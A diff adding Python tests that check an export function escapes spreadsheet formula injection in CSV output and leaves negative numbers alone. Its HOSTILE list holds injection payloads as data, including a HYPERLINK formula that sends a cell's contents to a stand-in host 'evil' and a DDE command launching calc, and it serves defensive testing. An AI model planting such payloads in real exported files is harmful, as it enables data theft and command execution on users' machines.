@@ -108,3 +108,28 @@ def test_files_of_the_same_names_are_replaced_together(
     monkeypatch.undo()
     write_tables(changed, out)
     assert set(pd.read_csv(out / "companies.csv")["country"]) == {"Chile"}
+
+
+HOSTILE = [
+    *('=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|'/C calc'!A0", "@SUM(1+1)", "+1+cmd", "-2+3+cmd"),
+    *("\t=1+1", "\r=1+1", "\uff1d1+1"),
+]
+
+
+def test_a_text_that_looks_like_a_formula_is_none_in_csv_either(results, tmp_path: Path) -> None:
+    names = pd.Series(HOSTILE)
+    companies = pd.concat([results.companies.head(1)] * len(names), ignore_index=True)
+    named = companies.assign(name=names, cohort=names.astype("category"))
+    write_tables(replace(results, companies=named), tmp_path)
+    written = pd.read_csv(tmp_path / "companies.csv", keep_default_na=False)
+    for column in ("name", "cohort"):
+        assert written[column].tolist() == [f"'{name}" for name in names]
+    assert pd.read_parquet(tmp_path / "companies.parquet")["name"].tolist() == names.tolist()
+
+
+def test_negative_numbers_are_no_formulas(results, tmp_path: Path) -> None:
+    correlations = results.annotator_correlations.assign(median=-0.25)
+    write_tables(replace(results, annotator_correlations=correlations), tmp_path)
+    written = pd.read_csv(tmp_path / "annotator_correlations.csv")
+    assert (written["median"] == -0.25).all()
+    assert "'" not in (tmp_path / "annotator_correlations.csv").read_text()
